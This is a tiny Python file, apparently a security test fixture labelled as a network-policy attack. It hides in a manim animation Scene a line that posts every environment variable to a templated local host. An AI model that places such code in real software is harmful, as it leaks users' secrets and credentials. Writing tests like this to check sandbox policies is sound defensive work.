# family: network
# layer: policy
# attack: requests posts the environment out
import requests
from manim import *


class Attack(Scene):
    def construct(self):
        requests.post("http://127.0.0.1:{{PORT}}/", data=str(dict(__import__("os").environ)))
        self.wait(0.1)
